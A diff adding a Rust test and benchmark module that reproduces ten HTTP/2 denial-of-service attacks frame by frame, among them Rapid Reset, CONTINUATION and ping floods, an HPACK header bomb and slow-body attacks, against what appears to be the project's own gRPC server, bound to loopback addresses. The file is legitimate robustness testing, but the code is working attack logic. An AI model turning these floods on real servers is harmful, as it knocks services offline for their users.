@@ -1,0 +1,334 @@
+//! What those do who mean harm, frame by frame (RFC 9113): used by the tests and by the benchmark.
+
+use std::{
+    net::{Ipv4Addr, SocketAddr},
+    time::{Duration, Instant},
+};
+
+use tokio::{
+    io::{AsyncReadExt, AsyncWriteExt},
+    net::{TcpSocket, TcpStream},
+    task::JoinSet,
+    time::{sleep, timeout},
+};
+
+const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+const DATA: u8 = 0;
+const HEADERS: u8 = 1;
+const RST_STREAM: u8 = 3;
+const SETTINGS: u8 = 4;
+const PING: u8 = 6;
+const WINDOW_UPDATE: u8 = 8;
+const CONTINUATION: u8 = 9;
+const END_STREAM: u8 = 1;
+const END_HEADERS: u8 = 4;
+
+/// A way to do harm.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(crate) enum Attack {
+    /// Calls that are taken back as soon as they are made (CVE-2023-44487).
+    RapidReset,
+    /// Headers that never end (VU#421644).
+    ContinuationFlood,
+    /// Pings whose answers nobody reads (CVE-2019-9512).
+    PingFlood,
+    /// Settings whose acknowledgements nobody reads (CVE-2019-9515).
+    SettingsFlood,
+    /// A header that is sent once and meant a thousand times (CVE-2016-6581).
+    HeaderBomb,
+    /// Headers a byte at a time.
+    SlowHeaders,
+    /// Bodies a byte at a time, on as many calls as there may be.
+    SlowBodies,
+    /// Ten thousand connections on which nothing is said.
+    HalfOpen,
+    /// Requests of almost 4 MiB, as fast as they go.
+    LargeMessages,
+    /// Those who follow the feed, and never read.
+    DeafWatchers,
+}
+
+pub(crate) const ALL: [Attack; 10] = [
+    Attack::RapidReset,
+    Attack::ContinuationFlood,
+    Attack::PingFlood,
+    Attack::SettingsFlood,
+    Attack::HeaderBomb,
+    Attack::SlowHeaders,
+    Attack::SlowBodies,
+    Attack::HalfOpen,
+    Attack::LargeMessages,
+    Attack::DeafWatchers,
+];
+
+impl Attack {
+    /// Goes on for `time`, from addresses of this machine that nobody else calls from. Whatever the server does about
+    /// it: hung up on, it begins again.
+    pub(crate) async fn go_on(self, target: SocketAddr, time: Duration) {
+        let end = Instant::now() + time;
+        let connections = match self {
+            Self::HalfOpen => return half_open(target, end).await,
+            Self::SlowHeaders => 200,
+            Self::SlowBodies | Self::DeafWatchers => 8,
+            _ => 4,
+        };
+        let mut attackers = JoinSet::new();
+        for number in 0..connections {
+            attackers.spawn(async move {
+                while Instant::now() < end {
+                    let left = end.saturating_duration_since(Instant::now());
+                    // Ends with an error when it is hung up on.
+                    let _ = timeout(left, self.once(target, number)).await;
+                    // Whoever is hung up on at once needn't fill the machine with closed connections.
+                    sleep(Duration::from_millis(20)).await;
+                }
+            });
+        }
+        while attackers.join_next().await.is_some() {}
+    }
+
+    async fn once(self, target: SocketAddr, number: u8) -> std::io::Result<()> {
+        let mut stream = begin(target, number).await?;
+        match self {
+            Self::RapidReset => {
+                for first in (1..).step_by(100) {
+                    let mut frames = Vec::new();
+                    for id in (first..).step_by(2).take(50) {
+                        frames.extend(frame(HEADERS, END_HEADERS, id, &call("CheckAccess")));
+                        frames.extend(frame(RST_STREAM, 0, id, &8_u32.to_be_bytes()));
+                    }
+                    stream.write_all(&frames).await?;
+                }
+            }
+            Self::ContinuationFlood => {
+                stream
+                    .write_all(&frame(HEADERS, 0, 1, &call("CheckAccess")))
+                    .await?;
+                let mut more = Vec::new();
+                for _ in 0..64 {
+                    literal(&mut more, b"x-more", &[b'x'; 200]);
+                }
+                let more = frame(CONTINUATION, 0, 1, &more);
+                loop {
+                    stream.write_all(&more).await?;
+                }
+            }
+            Self::PingFlood => {
+                let pings = frame(PING, 0, 0, &[7; 8]).repeat(100);
+                loop {
+                    stream.write_all(&pings).await?;
+                }
+            }
+            Self::SettingsFlood => {
+                let settings = frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]).repeat(100);
+                loop {
+                    stream.write_all(&settings).await?;
+                }
+            }
+            Self::HeaderBomb => {
+                for id in (1..).step_by(2) {
+                    let mut headers = call("CheckAccess");
+                    // Into the dynamic table (RFC 7541, section 6.2.1), and then one byte for each time it is meant.
+                    headers.push(0x40);
+                    text(&mut headers, b"x-bomb");
+                    text(&mut headers, &[b'x'; 3900]);
+                    headers.extend([0xbe; 10_000]);
+                    stream
+                        .write_all(&frame(HEADERS, END_HEADERS | END_STREAM, id, &headers))
+                        .await?;
+                }
+            }
+            Self::SlowHeaders => {
+                let headers = frame(HEADERS, END_HEADERS, 1, &call("CheckAccess"));
+                for byte in headers {
+                    stream.write_all(&[byte]).await?;
+                    sleep(Duration::from_millis(100)).await;
+                }
+            }
+            Self::SlowBodies => {
+                let ids = || (1..2000).step_by(2);
+                for id in ids() {
+                    let mut frames = frame(HEADERS, END_HEADERS, id, &call("CreateGroup"));
+                    // A message of 3 MiB is said to come.
+                    frames.extend(frame(DATA, 0, id, &[0, 0, 0x30, 0, 0]));
+                    stream.write_all(&frames).await?;
+                }
+                for id in ids().cycle() {
+                    stream.write_all(&frame(DATA, 0, id, &[0])).await?;
+                    sleep(Duration::from_millis(1)).await;
+                }
+            }
+            Self::LargeMessages => large(stream).await?,
+            Self::DeafWatchers => {
+                // No window: nothing may be sent.
+                stream
+                    .write_all(&frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]))
+                    .await?;
+                for id in (1..1000).step_by(2) {
+                    let mut frames = frame(HEADERS, END_HEADERS, id, &call("WatchChanges"));
+                    frames.extend(frame(DATA, END_STREAM, id, &[0; 5]));
+                    stream.write_all(&frames).await?;
+                }
+                std::future::pending::<()>().await;
+            }
+            Self::HalfOpen => {}
+        }
+        Ok(())
+    }
+}
+
+/// Ten thousand, a thousand from each address; whoever is hung up on doesn't come again.
+async fn half_open(target: SocketAddr, end: Instant) {
+    let mut open = Vec::new();
+    for number in 0..10_000_u32 {
+        let Ok(from) = u8::try_from(number / 1000) else {
+            break;
+        };
+        let connected = timeout(Duration::from_secs(1), connect(target, from)).await;
+        if let Ok(Ok(mut stream)) = connected {
+            // Half of them have begun, and say no more.
+            if number % 2 == 0 {
+                let _ = stream.write_all(&PREFACE[..10]).await;
+            }
+            open.push(stream);
+        }
+    }
+    sleep(end.saturating_duration_since(Instant::now())).await;
+}
+
+/// Calls with messages of almost 4 MiB, one after the other, as fast as the windows allow.
+async fn large(stream: TcpStream) -> std::io::Result<()> {
+    let (mut reading, mut writing) = stream.into_split();
+    let mut window: i64 = 65_535;
+    let mut streams = std::collections::HashMap::<u32, i64>::new();
+    let part = vec![b'x'; 16 << 10];
+    let message = 4_000_000_u32;
+    for id in (1..).step_by(2) {
+        let mut headers = frame(HEADERS, END_HEADERS, id, &call("CreateGroup"));
+        let mut head = vec![0];
+        head.extend(message.to_be_bytes());
+        // The title, and how long it is: a varint of four bytes.
+        head.push(0x0a);
+        let length = message - 5;
+        head.extend((0..4).map(|byte| {
+            let bits = (length >> (7 * byte)) & 0x7f;
+            u8::try_from(bits).expect("seven bits") | if byte < 3 { 0x80 } else { 0 }
+        }));
+        headers.extend(frame(DATA, 0, id, &head));
+        writing.write_all(&headers).await?;
+        window -= i64::try_from(head.len()).expect("short");
+        *streams.entry(id).or_insert(65_535) -= i64::try_from(head.len()).expect("short");
+        let mut left = length as usize;
+        while left > 0 {
+            let room = window.min(streams[&id]);
+            if room <= 0 {
+                // Nothing but windows is of interest.
+                let mut header = [0; 9];
+                reading.read_exact(&mut header).await?;
+                let length = u32::from_be_bytes([0, header[0], header[1], header[2]]);
+                let mut payload = vec![0; length as usize];
+                reading.read_exact(&mut payload).await?;
+                let of = u32::from_be_bytes([header[5], header[6], header[7], header[8]]);
+                match (header[3], &payload[..]) {
+                    (WINDOW_UPDATE, [a, b, c, d]) => {
+                        let more = i64::from(u32::from_be_bytes([*a, *b, *c, *d]));
+                        match of {
+                            0 => window += more,
+                            of => *streams.entry(of).or_insert(65_535) += more,
+                        }
+                    }
+                    (SETTINGS, settings) if header[4] & 1 == 0 => {
+                        for setting in settings.chunks_exact(6).filter(|setting| setting[1] == 4) {
+                            let [_, _, a, b, c, d] = setting.try_into().expect("six bytes");
+                            let initial = i64::from(u32::from_be_bytes([a, b, c, d]));
+                            *streams.entry(id).or_insert(65_535) += initial - 65_535;
+                        }
+                        writing.write_all(&frame(SETTINGS, 1, 0, &[])).await?;
+                    }
+                    // It has been answered without the rest, and wants none of it.
+                    (RST_STREAM | HEADERS, _) if of == id => break,
+                    _ => {}
+                }
+                continue;
+            }
+            let now = left
+                .min(part.len())
+                .min(usize::try_from(room).expect("positive"));
+            let flags = if now == left { END_STREAM } else { 0 };
+            writing
+                .write_all(&frame(DATA, flags, id, &part[..now]))
+                .await?;
+            left -= now;
+            let now = i64::try_from(now).expect("short");
+            window -= now;
+            *streams.entry(id).or_insert(65_535) -= now;
+        }
+        streams.remove(&id);
+    }
+    Ok(())
+}
+
+async fn connect(target: SocketAddr, number: u8) -> std::io::Result<TcpStream> {
+    let socket = TcpSocket::new_v4()?;
+    socket.bind((Ipv4Addr::new(127, 66, 6, number.wrapping_add(1)), 0).into())?;
+    socket.connect(target).await
+}
+
+async fn begin(target: SocketAddr, number: u8) -> std::io::Result<TcpStream> {
+    let mut stream = connect(target, number % 4).await?;
+    let mut beginning = PREFACE.to_vec();
+    beginning.extend(frame(SETTINGS, 0, 0, &[]));
+    stream.write_all(&beginning).await?;
+    Ok(stream)
+}
+
+fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let length = u32::try_from(payload.len()).expect("short").to_be_bytes();
+    let mut frame = vec![length[1], length[2], length[3], kind, flags];
+    frame.extend(stream.to_be_bytes());
+    frame.extend(payload);
+    frame
+}
+
+/// The headers of a call: literals that nobody need remember.
+fn call(rpc: &str) -> Vec<u8> {
+    let service = match rpc {
+        "CheckAccess" => "AccessService",
+        "WatchChanges" => "ChangeService",
+        _ => "GroupService",
+    };
+    let mut headers = vec![0x83, 0x86];
+    literal(
+        &mut headers,
+        b":path",
+        format!("/groups.v1.{service}/{rpc}").as_bytes(),
+    );
+    literal(&mut headers, b":authority", b"localhost");
+    literal(&mut headers, b"content-type", b"application/grpc");
+    literal(&mut headers, b"te", b"trailers");
+    headers
+}
+
+/// RFC 7541, section 6.2.2.
+fn literal(headers: &mut Vec<u8>, name: &[u8], value: &[u8]) {
+    headers.push(0);
+    text(headers, name);
+    text(headers, value);
+}
+
+/// RFC 7541, section 5.2.
+fn text(headers: &mut Vec<u8>, text: &[u8]) {
+    let mut length = text.len();
+    if length < 0x7f {
+        headers.push(u8::try_from(length).expect("short"));
+    } else {
+        headers.push(0x7f);
+        length -= 0x7f;
+        while length >= 0x80 {
+            headers.push(u8::try_from(length % 0x80).expect("short") | 0x80);
+            length /= 0x80;
+        }
+        headers.push(u8::try_from(length).expect("short"));
+    }
+    headers.extend(text);
+}
